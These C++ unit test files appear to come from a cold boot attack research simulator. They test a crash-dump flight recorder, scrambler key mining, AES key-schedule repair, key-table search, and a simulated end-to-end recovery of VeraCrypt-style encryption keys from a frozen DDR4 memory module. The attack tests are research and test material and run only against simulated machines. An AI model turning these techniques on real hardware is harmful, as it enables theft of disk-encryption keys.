 * SIGSEGV and a cb_fatal in a child process must each leave a
 * parseable post-mortem JSON behind.
 */

#include <gtest/gtest.h>

#include <sys/wait.h>
#include <unistd.h>

#include <csignal>
#include <cstdio>
#include <cstring>
#include <string>
#include <thread>
#include <vector>

#include "common/logging.hh"
#include "obs/flight.hh"
#include "obs/json.hh"
#include "obs/stats.hh"
#include "obs/trace.hh"

using namespace coldboot;
using namespace coldboot::obs;

namespace
{

/** Fresh, enabled global recorder for each test. */
FlightRecorder &
freshRecorder()
{
    FlightRecorder &fr = FlightRecorder::global();
    fr.resetForTest();
    fr.setEnabled(true);
    return fr;
}

} // anonymous namespace

TEST(FlightRecorder, FormatUintCoversEdges)
{
    char buf[32];

    size_t n = obs::detail::flightFormatUint(0, buf, sizeof(buf));
    EXPECT_EQ(std::string(buf, n), "0");

    n = obs::detail::flightFormatUint(42, buf, sizeof(buf));
    EXPECT_EQ(std::string(buf, n), "42");

    n = obs::detail::flightFormatUint(UINT64_MAX, buf, sizeof(buf));
    EXPECT_EQ(std::string(buf, n), "18446744073709551615");

    // A buffer too small for the value writes nothing.
    EXPECT_EQ(obs::detail::flightFormatUint(1234, buf, 3), 0u);
}

TEST(FlightRecorder, KindNamesAreStable)
{
    EXPECT_STREQ(obs::detail::flightKindName(1), "span_begin");
    EXPECT_STREQ(obs::detail::flightKindName(2), "span_end");
    EXPECT_STREQ(obs::detail::flightKindName(3), "log");
    EXPECT_STREQ(obs::detail::flightKindName(4), "counter");
    EXPECT_STREQ(obs::detail::flightKindName(5), "fatal");
}

TEST(FlightRecorder, RecordAndDecodeRoundTrip)
{
    FlightRecorder &fr = freshRecorder();

    fr.record(FlightKind::SpanBegin, "phase.alpha", 11, 7);
    fr.record(FlightKind::Counter, "job.progress", 4096, 8192);
    fr.record(FlightKind::Log, "warn: something", 0);

    int ring = fr.myRingIndex();
    ASSERT_GE(ring, 0);
    auto events = fr.ringEvents(static_cast<size_t>(ring));
    ASSERT_GE(events.size(), 3u);

    const FlightEvent &begin = events[events.size() - 3];
    EXPECT_EQ(begin.kind, FlightKind::SpanBegin);
    EXPECT_EQ(begin.a, 11u);
    EXPECT_EQ(begin.b, 7u);
    EXPECT_EQ(begin.name, "phase.alpha");

    const FlightEvent &counter = events[events.size() - 2];
    EXPECT_EQ(counter.kind, FlightKind::Counter);
    EXPECT_EQ(counter.a, 4096u);
    EXPECT_EQ(counter.b, 8192u);
    EXPECT_EQ(counter.name, "job.progress");

    const FlightEvent &log = events[events.size() - 1];
    EXPECT_EQ(log.kind, FlightKind::Log);
    EXPECT_EQ(log.name, "warn: something");

    // Timestamps are monotone within one thread's ring.
    EXPECT_LE(begin.ts_us, counter.ts_us);
    EXPECT_LE(counter.ts_us, log.ts_us);
}

TEST(FlightRecorder, LongNamesTruncateAtNameBytes)
{
    FlightRecorder &fr = freshRecorder();

    std::string lng(3 * FlightRecorder::nameBytes, 'x');
    fr.record(FlightKind::Log, lng.c_str());

    int ring = fr.myRingIndex();
    ASSERT_GE(ring, 0);
    auto events = fr.ringEvents(static_cast<size_t>(ring));
    ASSERT_FALSE(events.empty());
    EXPECT_EQ(events.back().name,
              std::string(FlightRecorder::nameBytes, 'x'));
}

TEST(FlightRecorder, RingWrapsAroundKeepingNewestEvents)
{
    FlightRecorder &fr = freshRecorder();

    const size_t total = FlightRecorder::eventCapacity + 17;
    for (size_t i = 0; i < total; ++i)
        fr.record(FlightKind::Counter, "wrap", i, 2 * i);

    int ring = fr.myRingIndex();
    ASSERT_GE(ring, 0);
    auto events = fr.ringEvents(static_cast<size_t>(ring));
    ASSERT_EQ(events.size(), FlightRecorder::eventCapacity);

    // Oldest surviving event is #17; newest is the last recorded.
    EXPECT_EQ(events.front().a, 17u);
    EXPECT_EQ(events.back().a, total - 1);
    EXPECT_EQ(events.back().b, 2 * (total - 1));
    for (size_t i = 1; i < events.size(); ++i)
        EXPECT_EQ(events[i].a, events[i - 1].a + 1);
}

TEST(FlightRecorder, DisabledRecordIsANoop)
{
    FlightRecorder &fr = freshRecorder();
    fr.record(FlightKind::Log, "kept");
    int ring = fr.myRingIndex();
    ASSERT_GE(ring, 0);
    size_t before = fr.ringEvents(static_cast<size_t>(ring)).size();
    uint64_t dropped_before = fr.droppedEvents();

    fr.setEnabled(false);
    fr.record(FlightKind::Log, "discarded");

    EXPECT_EQ(fr.ringEvents(static_cast<size_t>(ring)).size(), before);
    // Disabled is off, not overflow: nothing counts as dropped.
    EXPECT_EQ(fr.droppedEvents(), dropped_before);
    fr.setEnabled(true);
}

TEST(FlightRecorder, DumpJsonParsesAndCarriesEvents)
{
    FlightRecorder &fr = freshRecorder();
    fr.record(FlightKind::SpanBegin, "dump.me", 5, 0);
    fr.record(FlightKind::SpanEnd, "dump.me", 5, 1234);
    fr.updateStatsSnapshot();

    auto doc = json::parse(fr.dumpJson());
    ASSERT_TRUE(doc.has_value());
    EXPECT_EQ(doc->find("reason")->str, "live");
    EXPECT_EQ(doc->find("signal")->number, 0.0);
    EXPECT_TRUE(doc->find("enabled")->boolean);

    const auto *threads = doc->find("threads");
    ASSERT_NE(threads, nullptr);
    ASSERT_FALSE(threads->array.empty());

    bool saw_span_end = false;
    for (const auto &t : threads->array) {
        const auto *events = t.find("events");
        ASSERT_NE(events, nullptr);
        for (const auto &e : events->array) {
            if (e.find("kind")->str == "span_end" &&
                e.find("name")->str == "dump.me") {
                saw_span_end = true;
                EXPECT_EQ(e.find("a")->number, 5.0);
                EXPECT_EQ(e.find("b")->number, 1234.0);
            }
        }
    }
    EXPECT_TRUE(saw_span_end);

    // The pre-rendered stats snapshot embeds as a JSON object.
    const auto *stats = doc->find("stats");
    ASSERT_NE(stats, nullptr);
    EXPECT_NE(stats->find("stats"), nullptr);
}

TEST(FlightRecorder, ScopedSpanLeavesBeginEndBreadcrumbs)
{
    FlightRecorder &fr = freshRecorder();
    PhaseTracer tracer;

    uint64_t span_id = 0;
    {
        ScopedSpan span("breadcrumb.phase", tracer);
        span_id = span.id();
    }
    ASSERT_NE(span_id, 0u);

    int ring = fr.myRingIndex();
    ASSERT_GE(ring, 0);
    auto events = fr.ringEvents(static_cast<size_t>(ring));
    ASSERT_GE(events.size(), 2u);

    const FlightEvent &end = events.back();
    const FlightEvent &begin = events[events.size() - 2];
    EXPECT_EQ(begin.kind, FlightKind::SpanBegin);
    EXPECT_EQ(begin.a, span_id);
    EXPECT_EQ(begin.name, "breadcrumb.phase");
    EXPECT_EQ(end.kind, FlightKind::SpanEnd);
    EXPECT_EQ(end.a, span_id);
    EXPECT_EQ(end.name, "breadcrumb.phase");
}

TEST(FlightRecorder, ConcurrentRecordAndDumpTorture)
{
    FlightRecorder &fr = freshRecorder();

    // Writers hammer their own rings (wrapping many times) while the
    // main thread reads dumps concurrently - the reader/writer ring
    // protocol must stay clean under TSan.
    constexpr int writers = 4;
    constexpr size_t per_writer = 4 * FlightRecorder::eventCapacity;
    // coldboot-lint: allow(no-raw-thread) -- exercising the ring protocol below the ThreadPool layer
    std::vector<std::thread> pool;
    pool.reserve(writers);
    for (int w = 0; w < writers; ++w) {
        pool.emplace_back([&fr, w] {
            char name[32];
            std::snprintf(name, sizeof(name), "torture.%d", w);
            for (size_t i = 0; i < per_writer; ++i)
                fr.record(FlightKind::Counter, name, i,
                          static_cast<uint64_t>(w));
        });
    }

    for (int reads = 0; reads < 50; ++reads) {
        auto doc = json::parse(fr.dumpJson());
        ASSERT_TRUE(doc.has_value());
        for (size_t r = 0; r < fr.ringsInUse(); ++r)
            EXPECT_LE(fr.ringEvents(r).size(),
                      FlightRecorder::eventCapacity);
    }
    for (auto &t : pool)
        t.join();

    EXPECT_GE(fr.ringsInUse(), static_cast<size_t>(writers));

    // After the writers join, each ring holds a coherent tail.
    auto doc = json::parse(fr.dumpJson());
    ASSERT_TRUE(doc.has_value());
    const auto *threads = doc->find("threads");
    ASSERT_NE(threads, nullptr);
    size_t torture_rings = 0;
    for (const auto &t : threads->array) {
        const auto *events = t.find("events");
        if (events != nullptr && !events->array.empty() &&
            events->array.back().find("name")->str.rfind("torture.",
                                                         0) == 0)
            ++torture_rings;
    }
    EXPECT_EQ(torture_rings, static_cast<size_t>(writers));
}

TEST(FlightRecorder, ResetForTestClearsRingsAndDisables)
{
    FlightRecorder &fr = freshRecorder();
    fr.record(FlightKind::Log, "gone");
    int ring = fr.myRingIndex();
    ASSERT_GE(ring, 0);

    fr.resetForTest();
    EXPECT_FALSE(fr.enabled());
    EXPECT_TRUE(fr.ringEvents(static_cast<size_t>(ring)).empty());
    EXPECT_EQ(fr.droppedEvents(), 0u);
}

namespace
{

/**
 * Fork, run @p child in the child process, and reap it.
 * @return The child's raw waitpid status.
 */
template <typename Fn>
int
forkAndWait(Fn &&child)
{
    pid_t pid = fork();
    if (pid == 0) {
        child();
        _exit(97); // Unreachable for crashing children.
    }
    int status = 0;
    EXPECT_EQ(waitpid(pid, &status, 0), pid);
    return status;
}

} // anonymous namespace

TEST(FlightPostMortem, SigsegvWritesParseableDump)
{
    const std::string path = "test_flight_sigsegv.json";
    std::remove(path.c_str());

    int status = forkAndWait([&path] {
        FlightRecorder &fr = FlightRecorder::global();
        fr.installCrashHandler(path);
        fr.record(FlightKind::SpanBegin, "doomed.phase", 99, 0);
        fr.record(FlightKind::Counter, "doomed.progress", 10, 10);
        std::raise(SIGSEGV);
    });

    // SA_RESETHAND + re-raise: the child still dies by SIGSEGV.
    ASSERT_TRUE(WIFSIGNALED(status));
    EXPECT_EQ(WTERMSIG(status), SIGSEGV);

    auto doc = json::parseFile(path);
    ASSERT_TRUE(doc.has_value());
    EXPECT_EQ(doc->find("signal")->number,
              static_cast<double>(SIGSEGV));
    EXPECT_EQ(doc->find("reason")->str, "SIGSEGV");

    int crashing = static_cast<int>(
        doc->find("crashing_ring")->number);
    EXPECT_GE(crashing, 0);

    // The crashing thread's ring carries the pre-crash breadcrumbs.
    const auto *threads = doc->find("threads");
    ASSERT_NE(threads, nullptr);
    bool found_breadcrumbs = false;
    for (const auto &t : threads->array) {
        if (static_cast<int>(t.find("ring")->number) != crashing)
            continue;
        const auto *events = t.find("events");
        ASSERT_NE(events, nullptr);
        for (const auto &e : events->array)
            if (e.find("name")->str == "doomed.phase")
                found_breadcrumbs = true;
    }
    EXPECT_TRUE(found_breadcrumbs);
    std::remove(path.c_str());
}

TEST(FlightPostMortem, FatalHookWritesDumpBeforeExit)
{
    const std::string path = "test_flight_fatal.json";
    std::remove(path.c_str());

    int status = forkAndWait([&path] {
        FlightRecorder::global().installCrashHandler(path);
        cb_fatal("flight test: synthetic fatal");
    });

    // cb_fatal exits 1 after the hook runs; no signal involved.
    ASSERT_TRUE(WIFEXITED(status));
    EXPECT_EQ(WEXITSTATUS(status), 1);

    auto doc = json::parseFile(path);
    ASSERT_TRUE(doc.has_value());
    EXPECT_EQ(doc->find("signal")->number, 0.0);
    EXPECT_EQ(doc->find("reason")->str, "fatal");

    // The fatal message itself lands as the final Fatal event.
    const auto *threads = doc->find("threads");
    ASSERT_NE(threads, nullptr);
    bool saw_fatal = false;
    for (const auto &t : threads->array)
        for (const auto &e : t.find("events")->array)
            if (e.find("kind")->str == "fatal")
                saw_fatal = true;
    EXPECT_TRUE(saw_fatal);
    std::remove(path.c_str());
}

TEST(FlightPostMortem, CrashDumpWithoutPathIsANoop)
{
    FlightRecorder &fr = freshRecorder();
    // No installCrashHandler in this process: nothing to write, no
    // crash, no output file - just must not blow up.
    if (fr.crashDumpPath().empty())
        fr.crashDump(0, "test");
    SUCCEED();
}
