/**
 * @file
 * Attack tests: key mining, schedule repair, key-table search, the
 * DDR3 baseline attack, and the full end-to-end DDR4 cold boot attack
 * against a mounted VeraCrypt-style volume.
 */

#include <gtest/gtest.h>

#include <cmath>
#include <cstring>
#include <memory>
#include <vector>

#include "attack/aes_search.hh"
#include "attack/attack_pipeline.hh"
#include "attack/ddr3_attack.hh"
#include "attack/key_miner.hh"
#include "attack/litmus.hh"
#include "common/bits.hh"
#include "common/rng.hh"
#include "common/units.hh"
#include "crypto/xts.hh"
#include "dram/dram_module.hh"
#include "memctrl/scrambler.hh"
#include "platform/coldboot.hh"
#include "platform/machine.hh"
#include "platform/workload.hh"
#include "volume/veracrypt_volume.hh"

namespace coldboot::attack
{
namespace
{

using crypto::AesKeySize;
using dram::DramModule;
using platform::BiosConfig;
using platform::cpuModelByName;
using platform::Machine;
using platform::MemoryImage;

//
// Key miner
//

TEST(KeyMiner, RecoversPlantedKeysFromCleanDump)
{
    memctrl::Ddr4Scrambler scr(0xFEED, 0);
    Xoshiro256StarStar rng(1);

    MemoryImage dump(MiB(1));
    auto bytes = dump.bytesMutable();
    rng.fillBytes(bytes); // scrambled-looking noise

    // Plant 6 copies each of 10 keys (zero blocks in DRAM).
    for (unsigned k = 0; k < 10; ++k) {
        uint8_t key[64];
        scr.poolKey(k * 100, key);
        for (unsigned copy = 0; copy < 6; ++copy) {
            size_t line = k * 600 + copy * 37;
            memcpy(&bytes[line * 64], key, 64);
        }
    }

    MinerStats stats;
    auto mined = mineScramblerKeys(dump, {}, &stats);
    ASSERT_GE(mined.size(), 10u);
    EXPECT_GT(stats.litmus_hits, 0u);

    // Every planted key must be among the top hits, pristine.
    for (unsigned k = 0; k < 10; ++k) {
        uint8_t key[64];
        scr.poolKey(k * 100, key);
        bool found = false;
        for (const auto &mk : mined)
            found = found ||
                    (memcmp(mk.key.data(), key, 64) == 0 &&
                     mk.occurrences >= 6);
        EXPECT_TRUE(found) << "key " << k * 100;
    }
}

TEST(KeyMiner, MajorityVoteRepairsDecayedCopies)
{
    memctrl::Ddr4Scrambler scr(0xBEEF, 0);
    Xoshiro256StarStar rng(2);
    MemoryImage dump(KiB(64));
    auto bytes = dump.bytesMutable();
    rng.fillBytes(bytes);

    uint8_t key[64];
    scr.poolKey(7, key);
    // 9 copies, each with 6 random bit flips; no copy pristine.
    for (unsigned copy = 0; copy < 9; ++copy) {
        uint8_t noisy[64];
        memcpy(noisy, key, 64);
        for (int f = 0; f < 6; ++f) {
            unsigned bit = static_cast<unsigned>(rng.nextBelow(512));
            noisy[bit / 8] ^= static_cast<uint8_t>(1u << (bit % 8));
        }
        memcpy(&bytes[(copy * 41 + 3) * 64], noisy, 64);
    }

    auto mined = mineScramblerKeys(dump);
    ASSERT_GE(mined.size(), 1u);
    EXPECT_EQ(memcmp(mined[0].key.data(), key, 64), 0);
    EXPECT_EQ(mined[0].occurrences, 9u);
}

TEST(KeyMiner, ConstantBlocksDropped)
{
    MemoryImage dump(KiB(64));
    // All-zero dump: everything is constant.
    MinerStats stats;
    auto mined = mineScramblerKeys(dump, {}, &stats);
    EXPECT_TRUE(mined.empty());
    EXPECT_GT(stats.constant_dropped, 0u);
}

TEST(KeyMiner, ScanLimitHonored)
{
    MemoryImage dump(MiB(2));
    MinerParams params;
    params.scan_limit_bytes = KiB(256);
    MinerStats stats;
    mineScramblerKeys(dump, params, &stats);
    EXPECT_EQ(stats.blocks_scanned, KiB(256) / 64);
}

//
// Schedule repair
//

TEST(ScheduleRepair, FixesScatteredFlips)
{
    Xoshiro256StarStar rng(3);
    std::vector<uint8_t> key(32);
    rng.fillBytes(key);
    auto sched = crypto::aesExpandKey(key);
    std::vector<uint32_t> words(60);
    for (unsigned i = 0; i < 60; ++i)
        words[i] = crypto::aesWordFromBytes(&sched[4 * i]);

    auto corrupted = words;
    // Flip one bit in each of 6 well-separated interior words (head
    // and tail words have only one prediction source and are handled
    // by the search's multi-window reconstruction instead).
    for (unsigned i : {9u, 18u, 27u, 36u, 45u, 51u})
        corrupted[i] ^= 1u << (i % 32);

    unsigned fixed = repairAesScheduleWords(corrupted, 0, 8, 8);
    EXPECT_GE(fixed, 6u);
    EXPECT_EQ(corrupted, words);
}

TEST(ScheduleRepair, NoOpOnCleanSchedule)
{
    Xoshiro256StarStar rng(4);
    std::vector<uint8_t> key(32);
    rng.fillBytes(key);
    auto sched = crypto::aesExpandKey(key);
    std::vector<uint32_t> words(60);
    for (unsigned i = 0; i < 60; ++i)
        words[i] = crypto::aesWordFromBytes(&sched[4 * i]);
    auto copy = words;
    EXPECT_EQ(repairAesScheduleWords(copy, 0, 8, 4), 0u);
    EXPECT_EQ(copy, words);
}

TEST(ScheduleRepair, WorksOnPartialWindows)
{
    // Repair a mid-schedule slice (words 12..59), as assembled from
    // the fully-in-table blocks of an unaligned keytable.
    Xoshiro256StarStar rng(5);
    std::vector<uint8_t> key(32);
    rng.fillBytes(key);
    auto sched = crypto::aesExpandKey(key);
    std::vector<uint32_t> words(48);
    for (unsigned i = 0; i < 48; ++i)
        words[i] = crypto::aesWordFromBytes(&sched[4 * (i + 12)]);
    auto corrupted = words;
    corrupted[20] ^= 0x40;
    corrupted[33] ^= 0x1000;
    repairAesScheduleWords(corrupted, 12, 8, 8);
    EXPECT_EQ(corrupted, words);
}

//
// Key-table search on synthetic dumps
//

// coldboot-lint: allow(wipe-coverage) -- synthetic test dump, planted keys are fixture data
struct SyntheticDump
{
    MemoryImage dump{KiB(256)};
    std::vector<MinedKey> keys;
    std::vector<uint8_t> master; // 64 bytes (XTS pair)
    uint64_t table_addr;
};

/**
 * Build a 256 KiB scrambled dump containing one XTS keytable at a
 * chosen (possibly unaligned) offset, with ground-truth mined keys.
 */
SyntheticDump
makeSyntheticDump(uint64_t seed, uint64_t table_addr)
{
    SyntheticDump s;
    s.table_addr = table_addr;
    memctrl::Ddr4Scrambler scr(seed, 0);
    Xoshiro256StarStar rng(seed + 1);

    // Plaintext: mixed zero pages and noise pages.
    std::vector<uint8_t> plain(s.dump.size());
    for (size_t page = 0; page < plain.size() / 4096; ++page) {
        if (rng.chance(0.4))
            continue; // zero page
        rng.fillBytes(
            std::span<uint8_t>(&plain[page * 4096], 4096));
    }

    // Keytable: two expanded AES-256 schedules back to back.
    s.master.resize(64);
    rng.fillBytes(s.master);
    auto d = crypto::aesExpandKey({s.master.data(), 32});
    auto t = crypto::aesExpandKey({s.master.data() + 32, 32});
    memcpy(&plain[table_addr], d.data(), d.size());
    memcpy(&plain[table_addr + 240], t.data(), t.size());

    // Scramble every line by its address.
    auto bytes = s.dump.bytesMutable();
    for (uint64_t off = 0; off < plain.size(); off += 64)
        scr.apply(off, {&plain[off], 64}, bytes.subspan(off, 64));

    // Ground-truth candidate keys (as the miner would produce).
    for (unsigned idx = 0; idx < 4096; ++idx) {
        MinedKey mk;
        scr.poolKey(idx, mk.key.data());
        mk.occurrences = 2;
        mk.first_offset = 0;
        s.keys.push_back(mk);
    }
    return s;
}

TEST(AesSearch, RecoversXtsPairFromCleanDump)
{
    auto s = makeSyntheticDump(11, KiB(128) + 16);
    SearchStats stats;
    auto found = searchAesKeyTables(s.dump, s.keys, {}, &stats);
    ASSERT_GE(found.size(), 2u);

    auto pairs = pairXtsKeys(found);
    ASSERT_GE(pairs.size(), 1u);
    EXPECT_EQ(memcmp(pairs[0].data_key.data(), s.master.data(), 32),
              0);
    EXPECT_EQ(memcmp(pairs[0].tweak_key.data(), s.master.data() + 32,
                     32),
              0);
    EXPECT_GT(stats.litmus_hits, 0u);
}

/** Parameterized over keytable alignment within a line. */
class AesSearchAlignment : public ::testing::TestWithParam<unsigned>
{
};

TEST_P(AesSearchAlignment, RecoversAtEveryLineOffset)
{
    unsigned r = GetParam();
    auto s = makeSyntheticDump(100 + r, KiB(64) + r);
    auto found = searchAesKeyTables(s.dump, s.keys, {});
    auto pairs = pairXtsKeys(found);
    ASSERT_GE(pairs.size(), 1u) << "alignment " << r;
    EXPECT_EQ(memcmp(pairs[0].data_key.data(), s.master.data(), 32),
              0);
}

INSTANTIATE_TEST_SUITE_P(LineOffsets, AesSearchAlignment,
                         ::testing::Values(0u, 16u, 32u, 48u));

TEST(AesSearch, ToleratesDecay)
{
    auto s = makeSyntheticDump(13, KiB(96) + 32);
    // Flip ~0.5% of all bits (a good cooled transfer).
    Xoshiro256StarStar rng(14);
    auto bytes = s.dump.bytesMutable();
    uint64_t flips = s.dump.size() * 8 / 200;
    for (uint64_t f = 0; f < flips; ++f) {
        uint64_t bit = rng.nextBelow(s.dump.size() * 8);
        bytes[bit / 8] ^= static_cast<uint8_t>(1u << (bit % 8));
    }
    auto found = searchAesKeyTables(s.dump, s.keys, {});
    auto pairs = pairXtsKeys(found);
    ASSERT_GE(pairs.size(), 1u);
    EXPECT_EQ(memcmp(pairs[0].data_key.data(), s.master.data(), 32),
              0);
    EXPECT_EQ(memcmp(pairs[0].tweak_key.data(), s.master.data() + 32,
                     32),
              0);
}

TEST(AesSearch, NoFalsePositivesWithoutTable)
{
    // Same dump construction but with no keytable planted.
    SyntheticDump s;
    memctrl::Ddr4Scrambler scr(15, 0);
    Xoshiro256StarStar rng(16);
    std::vector<uint8_t> plain(s.dump.size());
    for (size_t page = 0; page < plain.size() / 4096; ++page)
        if (!rng.chance(0.4))
            rng.fillBytes(
                std::span<uint8_t>(&plain[page * 4096], 4096));
    auto bytes = s.dump.bytesMutable();
    for (uint64_t off = 0; off < plain.size(); off += 64)
        scr.apply(off, {&plain[off], 64}, bytes.subspan(off, 64));
    for (unsigned idx = 0; idx < 4096; ++idx) {
        MinedKey mk;
        scr.poolKey(idx, mk.key.data());
        mk.occurrences = 2;
        mk.first_offset = 0;
        s.keys.push_back(mk);
    }

    auto found = searchAesKeyTables(s.dump, s.keys, {});
    EXPECT_TRUE(found.empty());
}

TEST(AesSearch, ScanWindowHonored)
{
    auto s = makeSyntheticDump(17, KiB(128));
    SearchParams params;
    params.scan_start = 0;
    params.scan_bytes = KiB(64); // window excludes the table
    SearchStats stats;
    auto found = searchAesKeyTables(s.dump, s.keys, params, &stats);
    EXPECT_TRUE(found.empty());
    EXPECT_EQ(stats.blocks_scanned, KiB(64) / 64);
}

//
// DDR3 baseline attack
//

TEST(Ddr3Attack, UniversalKeyRecoveryAfterReboot)
{
    // Victim DDR3 machine; dump re-read through a second scrambler.
    Machine victim(cpuModelByName("i5-2540M"), BiosConfig{}, 1, 18);
    victim.installDimm(0, std::make_shared<DramModule>(
                              dram::Generation::DDR3, MiB(1),
                              dram::DecayParams{}, 19));
    victim.boot();
    platform::fillWorkload(victim, {}, 20);
    std::vector<uint8_t> secret(64);
    const char *msg = "0123456789abcdef0123456789abcdef"
                      "0123456789abcdefDDR3SECRETKEY!!!";
    memcpy(secret.data(), msg, 64);
    victim.writePhys(KiB(700), secret);
    MemoryImage truth = victim.dumpMemory();

    Machine attacker(cpuModelByName("i5-2540M"), BiosConfig{}, 1, 21);
    platform::ColdBootParams cold;
    auto result = platform::coldBootTransfer(victim, attacker, 0,
                                             cold);

    // The double-scrambled dump equals truth XOR one universal key.
    auto universal = recoverDdr3UniversalKey(result.dump);
    MemoryImage recovered = result.dump;
    descrambleWithUniversalKey(recovered, universal);

    // Outside the attacker's boot-polluted low region, nearly all
    // bits must match the victim's software view.
    size_t skip = 256 * 1024;
    size_t diff = hammingDistance(
        recovered.bytes().subspan(skip),
        truth.bytes().subspan(skip));
    double frac = static_cast<double>(diff) /
                  ((recovered.size() - skip) * 8.0);
    EXPECT_LT(frac, 0.03); // only decay noise remains

    EXPECT_LE(hammingDistance(
                  recovered.bytes().subspan(KiB(700), 64),
                  std::span<const uint8_t>(secret.data(), 64)),
              10u);
}

TEST(Ddr3Attack, SixteenKeyRecoveryFromRawDump)
{
    // Raw (scrambler-off) capture of a DDR3-scrambled DIMM.
    Machine victim(cpuModelByName("i7-3540M"), BiosConfig{}, 1, 22);
    victim.installDimm(0, std::make_shared<DramModule>(
                              dram::Generation::DDR3, MiB(1),
                              dram::DecayParams{}, 23));
    victim.boot();
    platform::fillWorkload(victim, {}, 24);
    MemoryImage truth = victim.dumpMemory();

    // Capture raw DRAM contents (no decay: analysis-bench setting).
    victim.shutdown();
    auto dimm = victim.removeDimm(0);
    MemoryImage raw(dimm->size());
    dimm->read(0, raw.bytesMutable());

    auto keys = recoverDdr3Keys(raw);
    ASSERT_EQ(keys.size(), 16u);
    MemoryImage recovered = raw;
    descrambleDdr3(recovered, keys);

    size_t skip = 256 * 1024; // victim boot pollution is workload-
                              // overwritten; compare everything after
    size_t diff = hammingDistance(recovered.bytes().subspan(skip),
                                  truth.bytes().subspan(skip));
    EXPECT_EQ(diff, 0u);
}

TEST(Ddr3Attack, UniversalKeyFailsOnDdr4)
{
    // The motivating negative result: DDR4 dumps have no universal
    // key, so the DDR3 attack recovers garbage.
    Machine victim(cpuModelByName("i5-6400"), BiosConfig{}, 1, 25);
    victim.installDimm(0, std::make_shared<DramModule>(
                              dram::Generation::DDR4, MiB(1),
                              dram::DecayParams{}, 26));
    victim.boot();
    platform::fillWorkload(victim, {}, 27);
    MemoryImage truth = victim.dumpMemory();

    Machine attacker(cpuModelByName("i5-6600K"), BiosConfig{}, 1, 28);
    auto result = platform::coldBootTransfer(victim, attacker, 0);

    auto universal = recoverDdr3UniversalKey(result.dump);
    MemoryImage recovered = result.dump;
    descrambleWithUniversalKey(recovered, universal);

    size_t skip = 256 * 1024;
    size_t diff = hammingDistance(recovered.bytes().subspan(skip),
                                  truth.bytes().subspan(skip));
    double frac = static_cast<double>(diff) /
                  ((recovered.size() - skip) * 8.0);
    EXPECT_GT(frac, 0.20); // mostly wrong
}

//
// End-to-end DDR4 cold boot attack
//

TEST(EndToEnd, VeraCryptKeyRecoveryFromFrozenDdr4)
{
    // 1. Victim: Skylake DDR4 machine, loaded, volume mounted.
    Machine victim(cpuModelByName("i5-6400"), BiosConfig{}, 1, 31);
    victim.installDimm(0, std::make_shared<DramModule>(
                              dram::Generation::DDR4, MiB(8),
                              dram::DecayParams{}, 32));
    victim.boot();
    platform::fillWorkload(victim, {}, 33);

    auto vf = volume::VolumeFile::create("correct horse", 16, 34);
    uint64_t keytable_addr = MiB(6) + 16; // not line aligned
    auto mounted = volume::MountedVolume::mount(victim, vf,
                                                "correct horse",
                                                keytable_addr);
    ASSERT_TRUE(mounted);
    std::vector<uint8_t> secret(volume::sectorBytes, 0);
    const char *msg = "attack at dawn";
    memcpy(secret.data(), msg, strlen(msg));
    mounted->writeSector(7, secret);
    std::vector<uint8_t> expected_master(
        mounted->masterKeys().begin(), mounted->masterKeys().end());

    // 2. Freeze, pull, transfer, dump on the attacker's machine
    //    (same generation; its own scrambler stays ENABLED).
    BiosConfig attacker_bios;
    attacker_bios.boot_pollution_bytes = KiB(64); // minimal dumper
    Machine attacker(cpuModelByName("i5-6600K"), attacker_bios, 1,
                     35);
    auto cold = platform::coldBootTransfer(victim, attacker, 0);
    EXPECT_GT(cold.bits_flipped, 0u); // decay really happened

    // 3. Run the attack. Mining covers the whole dump; the key table
    //    search is windowed around the upper memory region to keep
    //    the test fast (the full-dump scan is exercised by bench E4).
    PipelineParams params;
    params.search.scan_start = MiB(6) - KiB(64);
    params.search.scan_bytes = KiB(192);
    auto report = runColdBootAttack(cold.dump, params);

    ASSERT_GE(report.xts_pairs.size(), 1u);
    EXPECT_EQ(memcmp(report.xts_pairs[0].data_key.data(),
                     expected_master.data(), 32),
              0);
    EXPECT_EQ(memcmp(report.xts_pairs[0].tweak_key.data(),
                     expected_master.data() + 32, 32),
              0);

    // 4. Decrypt the captured volume with the recovered keys.
    crypto::XtsAes xts(
        {report.xts_pairs[0].data_key.data(), 32},
        {report.xts_pairs[0].tweak_key.data(), 32});
    std::vector<uint8_t> plain(volume::sectorBytes);
    xts.decryptSector(7, vf.sectorCiphertext(7), plain);
    EXPECT_EQ(0, memcmp(plain.data(), msg, strlen(msg)));
}

TEST(EndToEnd, AttackAlsoWorksWithScramblerDisabledDump)
{
    // Variant: the attacker's machine has its scrambler off, so the
    // dump shows K_victim directly rather than K_victim ^ K_attacker.
    Machine victim(cpuModelByName("i5-6400"), BiosConfig{}, 1, 41);
    victim.installDimm(0, std::make_shared<DramModule>(
                              dram::Generation::DDR4, MiB(8),
                              dram::DecayParams{}, 42));
    victim.boot();
    platform::fillWorkload(victim, {}, 43);
    auto vf = volume::VolumeFile::create("pw", 8, 44);
    uint64_t keytable_addr = MiB(5) + 32;
    auto mounted =
        volume::MountedVolume::mount(victim, vf, "pw", keytable_addr);
    ASSERT_TRUE(mounted);
    std::vector<uint8_t> expected_master(
        mounted->masterKeys().begin(), mounted->masterKeys().end());

    BiosConfig attacker_bios;
    attacker_bios.scrambler_enabled = false;
    attacker_bios.boot_pollution_bytes = KiB(64);
    Machine attacker(cpuModelByName("i5-6400"), attacker_bios, 1, 45);
    auto cold = platform::coldBootTransfer(victim, attacker, 0);

    PipelineParams params;
    params.search.scan_start = MiB(5) - KiB(64);
    params.search.scan_bytes = KiB(192);
    auto report = runColdBootAttack(cold.dump, params);

    ASSERT_GE(report.xts_pairs.size(), 1u);
    EXPECT_EQ(memcmp(report.xts_pairs[0].data_key.data(),
                     expected_master.data(), 32),
              0);
}

TEST(EndToEnd, DegenerateDumpThroughputStaysFinite)
{
    // Degenerate input (a single all-zero line - MemoryImage itself
    // rejects size 0): the throughput figure must stay finite and
    // non-negative, never inf/nan, so the stats JSON stays
    // comparable across runs.
    MemoryImage tiny{size_t{64}};
    auto report = runColdBootAttack(tiny, {});
    EXPECT_TRUE(std::isfinite(report.mib_per_second));
    EXPECT_GE(report.mib_per_second, 0.0);
    EXPECT_TRUE(report.xts_pairs.empty());
}

} // anonymous namespace
} // namespace coldboot::attack
