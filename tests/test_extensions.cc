/**
 * @file
 * Tests for the extension features: non-volatile DIMMs (the paper's
 * motivation that NVDIMMs make cold boot worse), register-only key
 * storage (the TRESOR-class mitigation the paper surveys), the
 * Halderman baseline key search, and dump file round-trips.
 */

#include <gtest/gtest.h>

#include <cstdio>
#include <cstring>
#include <memory>
#include <vector>

#include "attack/attack_pipeline.hh"
